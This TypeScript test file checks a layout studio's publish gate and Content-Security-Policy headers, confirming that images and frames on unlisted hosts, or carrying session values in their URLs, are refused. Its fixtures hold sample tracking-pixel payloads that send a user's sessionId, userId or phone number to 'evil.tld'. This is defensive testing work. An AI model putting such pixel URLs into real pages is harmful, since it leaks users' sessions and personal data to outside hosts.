/**
 * At publish time and in the page's headers: a layout whose image sends the
 * borrower's session to another host, or loads from a host not on config/app.json imageHosts /
 * frameHosts, is refused by the studio's publish gate (422, the message and the issues naming
 * file and pointer); borrowers keep the published version. The page's CSP img-src and frame-src
 * list exactly the configured hosts, so a browser refuses the rest as well.
 */
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import app from '../../config/app.json';
import { studioCookie } from './studioApi';
import { startServer, type TestServer } from './helpers';

const NAME = 'customer-service';
/** The layout with `node` below its header, as the file an operator would save. */
const layout = (node: Record<string, unknown>) =>
  `${JSON.stringify(
    {
      id: NAME,
      version: 1,
      title: 'Online service',
      body: [{ type: 'page-header', title: 'Online service' }, node],
    },
    null,
    2,
  )}\n`;
const FILE = layout({ type: 'image', src: '/assets/demo/banner.svg', alt: 'Banner' });
/** The attack run's layout: a tracking pixel with the borrower's session on someone else's host. */
const LEAK = layout({
  type: 'image',
  src: 'https://evil.tld/p.png?s={{ query.sessionId }}&u={{ query.userId }}',
});
/** An allowed image host, but the session still goes to it. */
const LEAK_LISTED = layout({
  type: 'image',
  src: `https://${app.imageHosts[0] ?? ''}/p.png?p={{ query.mobilePhone }}`,
});
/** A frame on a host that is not a frame host. */
const FOREIGN_FRAME = layout({ type: 'web-frame', src: 'https://evil.tld/terms', title: 'Terms' });

let s: TestServer;
let dir: string;
beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), 'kopa-hosts-'));
  const dist = join(dir, 'dist');
  const layouts = join(dir, 'layouts');
  mkdirSync(dist);
  mkdirSync(layouts);
  writeFileSync(
    join(dist, 'index.html'),
    '<!doctype html><html lang="en"><head><title>Kopa</title></head><body><div id="root"></div></body></html>',
  );
  writeFileSync(join(layouts, `${NAME}.json`), FILE);
  s = await startServer({ distDir: dist, layoutsDir: layouts });
});
afterAll(async () => {
  await s.close();
  rmSync(dir, { recursive: true, force: true });
});

describe('publish gate: images and frames on other hosts', () => {
  it.each([
    [
      'an image sending sessionId and userId to evil.tld',
      LEAK,
      [
        {
          code: 'foreign-host',
          message: 'image host "evil.tld" is not on config/app.json imageHosts',
        },
        {
          code: 'session-in-url',
          message:
            'session value query.sessionId goes into an image URL that reaches host "evil.tld"',
        },
      ],
    ],
    [
      'an image sending the phone to a listed image host',
      LEAK_LISTED,
      [
        {
          code: 'session-in-url',
          message: 'session value query.mobilePhone goes into an image URL',
        },
      ],
    ],
    [
      'a frame on evil.tld',
      FOREIGN_FRAME,
      [
        {
          code: 'foreign-host',
          message: 'frame host "evil.tld" is not on config/app.json frameHosts',
        },
      ],
    ],
  ])(
    'publishing %s is refused with 422 naming file and pointer; borrowers keep the published layout',
    async (_what, text, wants) => {
      const cookie = await studioCookie(s);
      const headers = { cookie };
      const before = (await s.inject({ method: 'GET', url: `/layouts/${NAME}.json` })).body;
      expect(
        (
          await s.inject({
            method: 'PUT',
            url: `/studio/api/layouts/${NAME}/draft`,
            headers,
            payload: { content: text },
          })
        ).statusCode,
      ).toBe(200);
      const res = await s.inject({
        method: 'POST',
        url: `/studio/api/layouts/${NAME}/publish`,
        headers,
        payload: { note: 'tracking pixel' },
      });
      expect(res.statusCode).toBe(422);
      const body = res.json() as {
        message: string;
        data: {
          issues: Array<{
            file: string;
            pointer: string;
            code: string;
            line: number;
            message: string;
          }>;
        };
      };
      expect(body.message).toMatch(/^Not published: \d+ problem\(s\) in the draft\.$/);
      for (const want of wants) {
        expect(body.data.issues).toContainEqual(
          expect.objectContaining({
            file: `layouts/${NAME}.json`,
            pointer: '/body/1/src',
            code: want.code,
            message: expect.stringContaining(want.message),
          }),
        );
      }
      expect(body.data.issues.every((i) => i.line > 0)).toBe(true);
      expect((await s.inject({ method: 'GET', url: `/layouts/${NAME}.json` })).body).toBe(before);
      await s.inject({ method: 'DELETE', url: `/studio/api/layouts/${NAME}/draft`, headers });
    },
  );
});

describe("the page's CSP lists the configured hosts only", () => {
  it.each(['/customerService?userId=10001&sessionId=demo-session', '/repay', '/no/such/page'])(
    '%s',
    async (path) => {
      const res = await s.inject({ method: 'GET', url: path, headers: { accept: 'text/html' } });
      expect(res.statusCode).toBe(path === '/no/such/page' ? 404 : 200);
      const csp = String(res.headers['content-security-policy']);
      const directive = (name: string) =>
        (csp.split(/;\s*/).find((d) => d.startsWith(`${name} `)) ?? '').split(' ').slice(1);
      expect(directive('img-src')).toEqual([
        "'self'",
        'data:',
        'blob:',
        ...app.imageHosts.map((h) => `https://${h}`),
      ]);
      expect(directive('frame-src')).toEqual([
        "'self'",
        ...app.frameHosts.map((h) => `https://${h}`),
      ]);
      expect(csp).not.toMatch(/(^|\s)https:(\s|;|$)/);
    },
  );
});
